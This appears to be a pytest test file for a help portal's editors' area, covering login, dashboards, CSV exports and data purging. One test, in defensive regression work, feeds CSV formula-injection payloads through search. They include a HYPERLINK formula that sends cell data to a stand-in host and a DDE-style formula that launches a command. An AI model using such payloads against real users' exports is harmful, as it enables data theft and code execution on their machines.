"""The editors' area: accounts, login with CSRF, the deflection dashboard and CSV exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from sqlalchemy import select

from portal.models import AdminUser, Event, utcnow
from tests.helpers import PASSWORD, csrf_token, figure, login


def test_password_is_hashed_with_argon2(app):
    with app.extensions["db"].session() as session:
        user = session.scalar(select(AdminUser))
    assert user.email == "editor@shop.example" and user.password_hash.startswith("$argon2id$")


def test_short_passwords_are_refused(app):
    result = app.test_cli_runner().invoke(args=["admin", "create-user", "x@y.example", "--password", "short"])
    assert result.exit_code != 0 and "at least 12 characters" in result.output


@pytest.mark.parametrize("path", ["/admin/", "/admin/export/top_searches.csv"])
def test_admin_pages_need_a_login(app, path):
    response = app.test_client().get(path)
    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/login?next=")


def test_wrong_password_is_refused_with_a_clear_message(app):
    client = app.test_client()
    response = login(client, "wrong password!")
    assert response.status_code == 401
    assert "do not match an editor account" in response.get_data(as_text=True)
    assert client.get("/admin/").status_code == 302


def test_login_needs_the_csrf_token(app):
    response = app.test_client().post("/admin/login", data={"email": "editor@shop.example",
                                                            "password": PASSWORD})
    assert response.status_code == 400


def test_login_logout(app):
    client = app.test_client()
    response = login(client)
    assert response.status_code == 303 and response.headers["Location"] == "/admin/"
    cookie = next(h for h in response.headers.getlist("Set-Cookie") if h.startswith("session="))
    assert "HttpOnly" in cookie
    page = client.get("/admin/").get_data(as_text=True)
    assert "Deflection rate" in page
    client.post("/admin/logout", data={"csrf_token": csrf_token(page)})
    assert client.get("/admin/").status_code == 302


def _store_visits(app):
    now = utcnow()
    events = [
        {"type": "search", "visit_id": "a" * 32, "locale": "en", "query": "where is my parcel",
         "result_count": 4, "created_at": now},
        {"type": "view", "visit_id": "a" * 32, "locale": "en", "article_id": "delivery/track-your-order",
         "category": "delivery", "created_at": now},
        {"type": "vote", "visit_id": "a" * 32, "locale": "en", "article_id": "delivery/track-your-order",
         "helpful": False, "created_at": now},
        {"type": "vote_reason", "visit_id": "a" * 32, "locale": "en",
         "article_id": "delivery/track-your-order", "reason": "incomplete", "created_at": now},
        {"type": "search", "visit_id": "b" * 32, "locale": "sv", "query": "reklamation", "result_count": 0,
         "created_at": now},
        {"type": "view", "visit_id": "b" * 32, "locale": "sv", "article_id": "returns/faulty-item-complaint",
         "category": "returns", "created_at": now},
        {"type": "contact_submitted", "visit_id": "b" * 32, "locale": "sv", "created_at": now},
    ]
    for event in events:
        event["attribution_id"] = event["visit_id"][:31] + "f"
    assert app.extensions["analytics"].write(events)


def test_dashboard_shows_metrics_tables_and_chart(app):
    _store_visits(app)
    client = app.test_client()
    login(client)
    html = client.get("/admin/").get_data(as_text=True)
    assert figure(html, "deflection_rate_sitting") == "50%"
    # Today's visits are still inside their 24 hours: not counted yet, and the page says so.
    assert figure(html, "deflection_rate_24h") == "–"
    assert "2 visits of the last 24 hours are not counted until their 24 hours have passed." in html
    # One day of visits is one dot, not a trend: the chart says so instead of drawing it.
    assert "Not enough data yet: the chart starts when there are visits on two days." in html
    assert "<svg class=\"chart\"" not in html
    assert "<td>where is my parcel</td>" in html and "<td>reklamation</td>" in html
    assert "How do I track my parcel?" in html and "incomplete (1)" in html
    swedish = client.get("/admin/?locale=sv").get_data(as_text=True)
    assert figure(swedish, "deflection_rate_sitting") == "0%"


def test_bad_dates_fall_back_with_a_message(app):
    client = app.test_client()
    login(client)
    response = client.get("/admin/?from=yesterday")
    assert response.status_code == 200 and "was not understood" in response.get_data(as_text=True)


@pytest.mark.parametrize(("name", "first_row"), [
    ("top_searches", ["Search query", "Searches", "Average results"]),
    ("zero_result_searches", ["Search query", "Searches", "Average results"]),
    ("searches_before_contact", ["Search query", "Contacts within 24 hours after it"]),
    ("least_helpful_articles", ["Article", "Helpful", "Not helpful", "Share helpful", "Reasons"]),
    ("articles_read_before_contact", ["Article", "Contacts that read it first",
                                      "Read last before the contact"]),
    ("deflection_by_locale", ["Language", "Self-service visits", "Deflection within the sitting",
                              "Deflection within 24 hours", "Helpful", "Votes", "Contacts",
                              "Contacts after self-service"]),
    ("deflection_by_category", ["Category", "Self-service visits", "Deflection within the sitting",
                                "Deflection within 24 hours", "Helpful", "Votes", "Contacts after reading"]),
    ("deflection_by_article", ["Article", "Self-service visits", "Deflection within the sitting",
                               "Deflection within 24 hours", "Helpful", "Votes", "Contacts after reading"]),
])
def test_every_table_exports_as_csv(app, name, first_row):
    _store_visits(app)
    client = app.test_client()
    login(client)
    response = client.get(f"/admin/export/{name}.csv")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == first_row and len(rows) >= 2


def test_daily_export_and_unknown_table(app):
    _store_visits(app)
    client = app.test_client()
    login(client)
    export = client.get("/admin/export/deflection_by_day.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(export)))
    assert rows[0][:3] == ["day", "self_service_visits", "deflected_visits_sitting"]
    assert rows[1][0] == dt.datetime.now(dt.UTC).date().isoformat() and rows[1][1] == "2"
    assert client.get("/admin/export/passwords.csv").status_code == 404


def test_purge_deletes_old_events(app):
    old = utcnow() - dt.timedelta(days=800)
    app.extensions["analytics"].write([{"type": "view", "locale": "en", "created_at": old},
                                       {"type": "view", "locale": "en", "created_at": utcnow()}])
    runner = app.test_cli_runner()
    assert "deleted 1 events" in runner.invoke(args=["analytics", "purge"]).output  # default 25 months
    assert "deleted 1 events" in runner.invoke(args=["analytics", "purge", "--older-than", "0d"]).output
    bad = runner.invoke(args=["analytics", "purge", "--older-than", "soon"])
    assert bad.exit_code != 0 and "90d" in bad.output
    with app.extensions["db"].session() as session:
        assert session.scalars(select(Event)).all() == []


def test_purge_takes_the_attribution_ids_with_their_events(app):
    old = utcnow() - dt.timedelta(days=800)
    app.extensions["analytics"].write([
        {"type": "view", "locale": "en", "visit_id": "a" * 32, "attribution_id": "1" * 32, "created_at": old},
        {"type": "view", "locale": "en", "visit_id": "b" * 32, "attribution_id": "2" * 32,
         "created_at": utcnow()}])
    assert "deleted 1 events" in app.test_cli_runner().invoke(args=["analytics", "purge"]).output
    with app.extensions["db"].session() as session:
        assert session.scalars(select(Event.attribution_id)).all() == ["2" * 32]


def test_failed_handoffs_are_shown_for_a_person_to_pass_on(app):

    from portal.handoff.store import create_handoff
    from portal.models import OutboxMessage

    with app.extensions["db"].session() as session:
        handoff = create_handoff(session, locale="sv", topic="return-or-refund", channel="form", name="Anna",
                                 email="anna@example.com", message="Trasig dragkedja", order_number=None,
                                 context={"searches": [], "articles": []})
        session.flush()
        outbox = session.scalar(select(OutboxMessage).where(OutboxMessage.handoff_id == handoff.id))
        outbox.failed_at, outbox.attempts, outbox.last_error = utcnow(), 40, "HTTP 503"
        handoff.status = "failed"
        reference = handoff.reference
    client = app.test_client()
    login(client)
    html = client.get("/admin/handoffs").get_data(as_text=True)
    assert reference in html and "HTTP 503" in html and "anna@example.com" in html
    assert re.search(r"<dt>Failed</dt><dd>1</dd>", html)


# -- stored contact requests when no helpdesk is connected (issue 17) --------------------------------


def store_handoff(app, **fields):
    from portal.handoff.store import create_handoff

    values = dict(locale="sv", topic="return-or-refund", channel="form", name="Anna Berg",
                  email="anna@example.com", message="Dragkedjan gick sönder.\nJag vill byta jackan.",
                  order_number="NV-123456",
                  context={"searches": ["trasig dragkedja"],
                           "articles": [{"id": "returns/return-an-item",
                                         "title": "Hur returnerar jag en vara?",
                                         "url": "/sv/returns/returnera-en-vara"}]})
    values.update(fields)
    with app.extensions["db"].session() as session:
        return create_handoff(session, **values).reference


def test_app_start_says_requests_are_only_stored_without_a_helpdesk(app_factory, caplog):
    caplog.set_level("WARNING")
    app_factory()
    assert any("no helpdesk is connected" in r.getMessage() and "/admin/handoffs" in r.getMessage()
               for r in caplog.records)
    caplog.clear()
    app_factory(WEBHOOK_URL="https://helpdesk.example/hook", WEBHOOK_SECRET="s")
    assert not any("no helpdesk" in r.getMessage() for r in caplog.records)


def test_stored_requests_are_listed_with_a_banner_on_how_to_connect_a_helpdesk(app):
    reference = store_handoff(app)
    client = app.test_client()
    login(client)
    html = client.get("/admin/handoffs", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "No helpdesk is connected: contact requests are only stored here." in html
    assert "PORTAL_WEBHOOK_URL" in html and "PORTAL_SMTP_HOST" in html and "docs/handoff.md" in html
    assert f'<a href="/admin/handoffs/{reference}">{reference}</a>' in html
    assert "Anna Berg &lt;anna@example.com&gt;" in html and "Waiting for delivery" in html


def test_a_stored_request_is_readable_in_full(app):
    long_message = "Dragkedjan gick sönder. " * 20 + "Slutet av meddelandet."
    reference = store_handoff(app, message=long_message)
    client = app.test_client()
    login(client)
    response = client.get(f"/admin/handoffs/{reference}", headers={"Accept-Language": "en"})
    html = response.get_data(as_text=True)
    assert f'<div class="handoff-message">{long_message}</div>' in html
    assert "NV-123456" in html and 'href="mailto:anna@example.com"' in html
    assert "Searched for “trasig dragkedja”" in html
    assert '<a href="/sv/returns/returnera-en-vara">Read “Hur returnerar jag en vara?”</a>' in html


def test_stored_requests_need_a_signed_in_editor(app):
    reference = store_handoff(app)
    for path in ("/admin/handoffs", f"/admin/handoffs/{reference}"):
        response = app.test_client().get(path)
        assert response.status_code == 302 and response.headers["Location"].startswith("/admin/login")


def test_an_unknown_request_is_not_found(app):
    client = app.test_client()
    login(client)
    assert client.get("/admin/handoffs/NV-NOSUCH1").status_code == 404


def test_with_a_helpdesk_there_is_no_banner(app_factory):
    app = app_factory(SMTP_HOST="smtp.example", SMTP_TO="support@shop.example")
    app.test_cli_runner().invoke(args=["admin", "create-user", "editor@shop.example", "--password", PASSWORD])
    client = app.test_client()
    login(client)
    assert "No helpdesk is connected" not in client.get("/admin/handoffs").get_data(as_text=True)


def test_csv_exports_neutralise_formulas(app):
    """M4: anonymous search text reached the exports as live spreadsheet formulas."""
    client = app.test_client()
    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Open report")', "@SUM(1+1)*cmd|'/C calc'!A0",
               "+1+1", "-2+3", "\tcmd", "\rcmd"]
    for text in attacks:
        client.get("/en/search", query_string={"q": text})
    app.extensions["analytics"].flush()
    login(client)
    for name in ("top_searches", "zero_result_searches"):
        rows = list(csv.reader(io.StringIO(client.get(f"/admin/export/{name}.csv").get_data(as_text=True))))
        searches = [row[0] for row in rows[1:]]
        assert searches, name
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)
        assert all(int(row[1]) >= 1 for row in rows[1:])  # counts stay numbers
        if name == "top_searches":
            assert any(cell.lower().startswith("'=hyperlink") for cell in searches)
            assert "'+1+1" in searches and "'@sum(1+1)*cmd|'/c calc'!a0" in searches


@pytest.mark.parametrize("query", ["?name=x", "?_method=POST", "?_scheme=https&_external=1&_anchor=x",
                                   "?from=0001-01-01", "?to=9999-12-31", "?from=0001-01-01&to=9999-12-31"])
def test_odd_query_strings_never_give_500(app, query):
    """L5: the dashboard passed the whole query string to url_for, and dates overflowed."""
    client = app.test_client()
    login(client)
    response = client.get("/admin/" + query)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "_scheme" not in html and "https://localhost/admin/export" not in html
    assert client.get("/admin/export/top_searches.csv" + query).status_code == 200


def test_purge_refuses_absurd_ages(app):
    bad = app.test_cli_runner().invoke(args=["analytics", "purge", "--older-than", "99999999y"])
    assert bad.exit_code != 0 and "100 years" in bad.output


def test_delivered_contact_requests_are_purged_after_the_retention(app):
    """L6: handoffs (names, e-mails, messages) were never deleted."""
    from portal.handoff.store import create_handoff
    from portal.models import Handoff, OutboxMessage

    old = utcnow() - dt.timedelta(days=200)
    with app.extensions["db"].session() as session:
        cases = (("delivered", old), ("failed", old), ("pending", old), ("delivered", utcnow()))
        for status, created in cases:
            handoff = create_handoff(session, locale="en", topic="t", channel="form", name="Anna",
                                     email="anna@example.com", message="A message", order_number=None,
                                     context={}, created_at=created)
            handoff.status = status
    result = app.test_cli_runner().invoke(args=["handoff", "purge"])  # default: 90 days
    assert result.exit_code == 0 and "deleted 1 delivered" in result.output
    with app.extensions["db"].session() as session:
        kept = sorted(h.status for h in session.scalars(select(Handoff)))
        assert kept == ["delivered", "failed", "pending"]
        assert len(session.scalars(select(OutboxMessage)).all()) == 3
